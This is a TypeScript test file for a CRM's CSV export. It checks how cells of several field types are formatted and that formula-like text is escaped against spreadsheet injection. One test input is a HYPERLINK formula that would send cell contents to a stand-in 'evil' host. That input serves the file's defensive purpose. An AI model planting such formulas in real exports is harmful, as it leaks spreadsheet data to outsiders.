import { type CellValue, type FieldDefinition } from '@crm/events';
import { csvCellText, formatCellText } from './format-cell';

const f = (type: string, options: Record<string, unknown> = {}): FieldDefinition => ({
  id: 'fld',
  name: 'F',
  type,
  options,
  role: null,
});
const ctx = {
  linkText: (id: string) =>
    (({ rec_a: 'Acme', rec_b: 'Smith, Jones & Co' }) as Record<string, string>)[id],
  actorName: (id: string) => (id === 'usr_ada' ? 'Ada' : id),
};
const text = (field: FieldDefinition, v: CellValue) => formatCellText(field, v, ctx);
const csv = (field: FieldDefinition, v: CellValue) => csvCellText(field, v, ctx);

describe('formatting a cell for CSV', () => {
  it('writes values so that they read back the same', () => {
    expect(text(f('currency', { symbol: '$', precision: 2 }), 1_000_000)).toBe('$1,000,000.00');
    expect(text(f('currency', { symbol: '$', precision: 2 }), -5.5)).toBe('-$5.50');
    expect(text(f('currency', { symbol: '$', precision: 0 }), 1234.567)).toBe('$1,234.567');
    expect(text(f('number', { precision: 2 }), 1234.5)).toBe('1234.50');
    expect(text(f('number'), 0.1 + 0.2)).toBe('0.30000000000000004');
    expect(text(f('percent'), 0.07)).toBe('7%');
    expect(text(f('checkbox'), true)).toBe('checked');
    expect(text(f('checkbox'), false)).toBe('');
    expect(text(f('multiple_select'), ['ESG', 'Re-up, 2026'])).toBe('ESG,"Re-up, 2026"');
    expect(text(f('link'), ['rec_b', 'rec_a', 'rec_unknown'])).toBe(
      '"Smith, Jones & Co",Acme,rec_unknown',
    );
    expect(
      text(f('attachment'), [
        { filename: 'deck.pdf', url: 'https://x.example/d' },
      ] as unknown as CellValue),
    ).toBe('deck.pdf (https://x.example/d)');
    expect(text(f('date'), '2026-01-31')).toBe('2026-01-31');
    expect(text(f('created_by'), 'usr_ada')).toBe('Ada');
    expect(text(f('text'), null)).toBe('');
  });

  it('guards text a spreadsheet would run, and leaves numbers as numbers', () => {
    expect(csv(f('text'), '=HYPERLINK("http://evil/?"&A1,"x")')).toBe(
      '\'=HYPERLINK("http://evil/?"&A1,"x")',
    );
    expect(csv(f('text'), '-2+3')).toBe("'-2+3");
    expect(csv(f('phone'), '+44 20 7946 0958')).toBe("'+44 20 7946 0958");
    expect(csv(f('single_select'), '@home')).toBe("'@home");
    expect(csv(f('link'), ['rec_a'])).toBe('Acme');
    expect(csv(f('number'), -2)).toBe('-2');
    expect(csv(f('currency', { symbol: '$', precision: 2 }), -5)).toBe('-$5.00');
    expect(csv(f('number'), '=1+1' as CellValue)).toBe("'=1+1");
  });
});
